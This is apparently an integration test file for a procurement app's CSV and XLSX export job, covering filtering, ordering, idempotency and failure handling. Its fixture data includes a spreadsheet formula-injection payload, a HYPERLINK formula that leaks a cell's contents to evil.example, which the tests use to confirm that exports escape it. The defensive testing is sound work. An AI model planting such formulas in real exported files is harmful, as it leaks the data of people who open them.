// The export job against the real app and database: a filtered item groups
// view exported as CSV and as XLSX, its queued job worked, the file downloaded through
// the signed link and read back (rows as the list's, in its order; a
// malicious order name escaped); orders, items and BOM lines; a second run
// changes nothing; a broken export fails.
import * as XLSX from '@e965/xlsx';
import Papa from 'papaparse';
import { beforeAll, describe, expect, it } from 'vitest';
import { processFileExport } from '../../server/jobs/export-file.ts';
import { createTenant, runJobs, server, type Tenant } from './support/harness.ts';

interface FileExport {
  sid: string;
  status: string;
  fileType: string;
  failureMessage: string | null;
}
interface ItemGroup {
  sid: string;
  dueDate: string | null;
  context?: { orderUniqueName: string | null };
}

const EVIL = '=HYPERLINK("http://evil.example/?leak="&A2,"Click me")';

/** An order with one item and item groups, through the API. */
async function order(
  t: Tenant,
  uniqueName: string,
  vendorSid: string,
  groups: { dueDate: string; quantity: string; confirmed?: boolean; status?: 'canceled' }[],
) {
  const o = await t.buyer.request<{ sid: string }>('POST', '/v1/orders', { uniqueName, vendorSid, title: 'Brackets' });
  expect(o.status, JSON.stringify(o.body)).toBe(201);
  const item = await t.buyer.request<{ sid: string }>('POST', '/v1/items', {
    orderSid: o.body.sid,
    uniqueName: 'BRKT-1',
    quantity: '100',
    manufacturerPartNumber: 'MPN, "quoted"',
    description: 'Bracket\nsteel',
  });
  expect(item.status, JSON.stringify(item.body)).toBe(201);
  for (const [i, g] of groups.entries()) {
    const created = await t.buyer.request<{ sid: string; version: number }>('POST', '/v1/itemGroups', {
      itemSid: item.body.sid,
      uniqueName: String(i + 1),
      quantity: g.quantity,
      dueDate: g.dueDate,
      ...(g.status ? { status: g.status } : {}),
    });
    expect(created.status, JSON.stringify(created.body)).toBe(201);
    if (g.confirmed) {
      const patched = await t.buyer.request('PATCH', `/v1/itemGroups/${created.body.sid}`, {
        confirmed: true,
        version: created.body.version,
      });
      expect(patched.status, JSON.stringify(patched.body)).toBe(200);
    }
  }
  return o.body.sid;
}

async function createExport(t: Tenant, query: Record<string, unknown>, extra: Record<string, unknown> = {}) {
  const r = await t.buyer.request<FileExport>('POST', '/v1/fileExports', { query, ...extra });
  expect(r.status, JSON.stringify(r.body)).toBe(201);
  expect(r.body.status).toBe('processing');
  return r.body;
}

/** Works the queued jobs (the export's was sent with it), then downloads its file through the signed link. */
async function runAndDownload(t: Tenant, exportSid: string) {
  const { app } = await server();
  expect(await runJobs()).toBeGreaterThanOrEqual(1);
  const done = await t.buyer.request<FileExport>('GET', `/v1/fileExports/${exportSid}`);
  expect(done.body.status).toBe('completed');
  const link = await t.buyer.request<{ url: string; expires: string }>(
    'GET',
    `/v1/fileExports/${exportSid}/downloadUrl`,
  );
  expect(link.status, JSON.stringify(link.body)).toBe(200);
  expect(new Date(link.body.expires).getTime()).toBeGreaterThan(Date.now());
  const url = new URL(link.body.url);
  const response = await app.request(`http://127.0.0.1${url.pathname}${url.search}`);
  expect(response.status).toBe(200);
  return {
    contentType: response.headers.get('content-type'),
    disposition: response.headers.get('content-disposition'),
    bytes: new Uint8Array(await response.arrayBuffer()),
  };
}

function readCsv(bytes: Uint8Array): string[][] {
  const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes);
  expect(text.charCodeAt(0)).toBe(0xfeff);
  const parsed = Papa.parse<string[]>(text.slice(1), { delimiter: ',', newline: '\r\n', skipEmptyLines: true });
  expect(parsed.errors).toEqual([]);
  return parsed.data;
}

function readXlsx(bytes: Uint8Array): unknown[][] {
  const workbook = XLSX.read(bytes, { type: 'array', cellDates: true });
  return XLSX.utils.sheet_to_json<unknown[]>(workbook.Sheets[workbook.SheetNames[0]], {
    header: 1,
    raw: true,
    defval: null,
  });
}

describe('the export job', () => {
  let t: Tenant;
  // The view: the first vendor's unconfirmed, active shipments, soonest due first.
  const filters = { vendorSid: '', confirmed: false, statusNot: 'canceled', orderBy: 'dueDate', sortOrder: 'Asc' };
  let expected: ItemGroup[];

  beforeAll(async () => {
    t = await createTenant('Exports');
    filters.vendorSid = t.vendorSid;
    await order(t, EVIL, t.vendorSid, [
      { dueDate: '2030-05-01', quantity: '5' },
      { dueDate: '2030-01-15', quantity: '2.5', confirmed: true },
      { dueDate: '2030-02-01', quantity: '7', status: 'canceled' },
    ]);
    await order(t, 'PO-2', t.vendorSid, [
      { dueDate: '2030-03-01', quantity: '10' },
      { dueDate: '2029-12-31', quantity: '1' },
    ]);
    await order(t, 'PO-OTHER', t.otherVendorSid, [{ dueDate: '2030-01-01', quantity: '3' }]);
    const search = new URLSearchParams({ ...filters, confirmed: 'false', pageSize: '500' });
    const listed = await t.buyer.request<{ itemGroups: ItemGroup[] }>('GET', `/v1/itemGroups?${search}`);
    expected = listed.body.itemGroups;
    expect(expected.map((g) => g.dueDate)).toEqual(['2029-12-31', '2030-03-01', '2030-05-01']);
  });

  it('writes the filtered item groups view as CSV, with the malicious order name escaped', async () => {
    const e = await createExport(t, { entity: 'itemGroups', fileType: 'csv', filters });
    const file = await runAndDownload(t, e.sid);
    expect(file.contentType).toBe('text/csv; charset=utf-8');
    expect(file.disposition).toMatch(/^attachment; filename\*=UTF-8''item-groups-\d{4}-\d{2}-\d{2}\.csv$/);
    const [header, ...rows] = readCsv(file.bytes);
    const col = (name: string) => header.indexOf(name);
    expect(header.slice(0, 8)).toEqual([
      'Order',
      'Vendor',
      'Part',
      'MPN',
      'Description',
      'Shipment',
      'Quantity',
      'Due date',
    ]);
    // Exactly the list's rows, in its order.
    expect(rows.map((r) => r[col('Item group sid')])).toEqual(expected.map((g) => g.sid));
    expect(rows.map((r) => r[col('Due date')])).toEqual(['2029-12-31', '2030-03-01', '2030-05-01']);
    expect(rows.map((r) => r[col('Quantity')])).toEqual(['1', '10', '5']);
    expect(rows.map((r) => r[col('Confirmed')])).toEqual(['FALSE', 'FALSE', 'FALSE']);
    expect(rows.map((r) => r[col('Vendor')])).toEqual([t.vendorName, t.vendorName, t.vendorName]);
    expect(rows.map((r) => r[col('Order')])).toEqual(['PO-2', 'PO-2', `'${EVIL}`]);
    expect(rows[0][col('MPN')]).toBe('MPN, "quoted"');
    expect(rows[0][col('Description')]).toBe('Bracket\nsteel');
    expect(rows.flat().some((cell) => /^[=+\-@\t\r]/.test(cell))).toBe(false);
  });

  it('writes the same view as XLSX: numbers and dates typed, the malicious order name a string escaped', async () => {
    const e = await createExport(t, { entity: 'itemGroups', fileType: 'xlsx', filters });
    const file = await runAndDownload(t, e.sid);
    expect(file.contentType).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    expect(file.disposition).toMatch(/item-groups-\d{4}-\d{2}-\d{2}\.xlsx$/);
    const [header, ...rows] = readXlsx(file.bytes);
    const col = (name: string) => header.indexOf(name);
    expect(rows.map((r) => r[col('Item group sid')])).toEqual(expected.map((g) => g.sid));
    expect(rows.map((r) => r[col('Quantity')])).toEqual([1, 10, 5]);
    expect(rows.map((r) => r[col('Due date')])).toEqual([
      new Date(Date.UTC(2029, 11, 31)),
      new Date(Date.UTC(2030, 2, 1)),
      new Date(Date.UTC(2030, 4, 1)),
    ]);
    expect(rows.map((r) => r[col('Confirmed')])).toEqual([false, false, false]);
    expect(rows[2][col('Order')]).toBe(`'${EVIL}`);
  });

  it('is idempotent: a second run keeps the one file', async () => {
    const { db } = await server();
    const e = await createExport(t, { entity: 'itemGroups', filters });
    await processFileExport(db, e.sid);
    const first = await db.selectFrom('fileExports').selectAll().where('sid', '=', e.sid).executeTakeFirstOrThrow();
    await processFileExport(db, e.sid);
    const second = await db.selectFrom('fileExports').selectAll().where('sid', '=', e.sid).executeTakeFirstOrThrow();
    expect(second.fileSid).toBe(first.fileSid);
    expect(second.updated).toEqual(first.updated);
    const files = await db.selectFrom('files').select('sid').where('organizationSid', '=', t.organizationSid).execute();
    const exports = await db
      .selectFrom('fileExports')
      .select('fileSid')
      .where('organizationSid', '=', t.organizationSid)
      .where('fileSid', 'is not', null)
      .execute();
    expect(files.length).toBe(exports.length);
    // A deleted export is no work at all.
    expect((await t.buyer.request('DELETE', `/v1/fileExports/${e.sid}`)).status).toBe(204);
    await processFileExport(db, e.sid);
    expect(await db.selectFrom('fileExports').select('sid').where('sid', '=', e.sid).executeTakeFirst()).toBe(
      undefined,
    );
  });

  it('exports orders with their summaries and items with their order', async () => {
    const orders = await runAndDownload(
      t,
      (await createExport(t, { entity: 'orders', filters: { vendorSid: t.vendorSid, orderBy: 'uniqueName' } })).sid,
    );
    const [orderHeader, ...orderRows] = readCsv(orders.bytes);
    const o = (name: string) => orderHeader.indexOf(name);
    // Sorted by unique name in the "C" collation: "=" sorts before "P".
    expect(orderRows.map((r) => r[o('Order')])).toEqual([`'${EVIL}`, 'PO-2']);
    expect(orderRows.map((r) => r[o('Shipments')])).toEqual(['2', '2']);
    expect(orderRows.map((r) => r[o('Confirmed %')])).toEqual(['50', '0']);

    const items = await runAndDownload(
      t,
      (await createExport(t, { entity: 'items', fileType: 'xlsx', filters: { vendorSid: t.otherVendorSid } })).sid,
    );
    const [itemHeader, ...itemRows] = readXlsx(items.bytes);
    const i = (name: string) => itemHeader.indexOf(name);
    expect(itemRows).toHaveLength(1);
    expect(itemRows[0][i('Order')]).toBe('PO-OTHER');
    expect(itemRows[0][i('Vendor')]).toBe(t.otherVendorName);
    expect(itemRows[0][i('Quantity')]).toBe(100);
  });

  it('exports BOM lines with their BOM, a field mapping naming the columns', async () => {
    const bom = await t.buyer.request<{ sid: string }>('POST', '/v1/boms', { uniqueName: 'Main board' });
    expect(bom.status, JSON.stringify(bom.body)).toBe(201);
    for (const [uniqueName, requiredQuantity] of [
      ['RES-10K', '4'],
      ['@CAP', '2'],
    ]) {
      const line = await t.buyer.request('POST', '/v1/bomLines', {
        bomSid: bom.body.sid,
        uniqueName,
        requiredQuantity,
      });
      expect(line.status, JSON.stringify(line.body)).toBe(201);
    }
    // Ten a month from now, nothing in stock: 40 and 20 short. RES-10K was last ordered from the tenant's vendor.
    const target = await t.buyer.request('POST', '/v1/clearToBuildTargets', {
      bomSid: bom.body.sid,
      quantity: '10',
      durationLength: 1,
      durationType: 'month',
      startDate: new Date().toISOString(),
    });
    expect(target.status, JSON.stringify(target.body)).toBe(201);
    const order = await t.buyer.request<{ sid: string }>('POST', '/v1/orders', {
      uniqueName: 'PO-BOM-EXPORT',
      vendorSid: t.vendorSid,
    });
    const item = await t.buyer.request('POST', '/v1/items', {
      orderSid: order.body.sid,
      uniqueName: '10',
      quantity: '5',
      manufacturerPartNumber: 'res 10k',
    });
    expect(item.status, JSON.stringify(item.body)).toBe(201);
    const mapping = await t.buyer.request<{ sid: string }>('POST', '/v1/fieldMappings', { name: 'ERP' });
    const mapped = await t.buyer.request('POST', '/v1/mappedFields', {
      fieldMappingSid: mapping.body.sid,
      name: 'Qty Per',
      mappedFieldType: 'quantity',
    });
    expect(mapped.status, JSON.stringify(mapped.body)).toBe(201);
    const e = await createExport(
      t,
      { entity: 'bomLines', filters: { bomSid: bom.body.sid, orderBy: 'requiredQuantity' } },
      { fieldMappingSid: mapping.body.sid },
    );
    const [header, ...rows] = readCsv((await runAndDownload(t, e.sid)).bytes);
    expect(header).toContain('Qty Per');
    expect(header).not.toContain('Quantity');
    expect(
      rows.map((r) => [r[header.indexOf('BOM')], r[header.indexOf('Part')], r[header.indexOf('Qty Per')]]),
    ).toEqual([
      ['Main board', "'@CAP", '2'],
      ['Main board', 'RES-10K', '4'],
    ]);
    const column = (name: string) => rows.map((r) => r[header.indexOf(name)]);
    expect(column('Shortage at target')).toEqual(['20', '40']);
    expect(column('Suggested order')).toEqual(['20', '40']);
    expect(column('Usual vendor')).toEqual(['', t.vendorName]);
    expect(column('Target date').every((d) => /^\d{4}-\d{2}-\d{2}$/.test(d))).toBe(true);
  });

  it('fails an export whose stored query the lists no longer take, and its link says so', async () => {
    const { db } = await server();
    const e = await createExport(t, { entity: 'orders' });
    await db
      .updateTable('fileExports')
      .set({ query: JSON.stringify({ entity: 'vendors' }) })
      .where('sid', '=', e.sid)
      .execute();
    await processFileExport(db, e.sid);
    const failed = await t.buyer.request<FileExport>('GET', `/v1/fileExports/${e.sid}`);
    expect(failed.body.status).toBe('failed');
    expect(failed.body.failureMessage).toMatch(/\S/);
    const link = await t.buyer.request<{ code: string; message: string }>(
      'GET',
      `/v1/fileExports/${e.sid}/downloadUrl`,
    );
    expect(link.status).toBe(409);
    expect(link.body.message).toMatch(/failed/);
  });
});
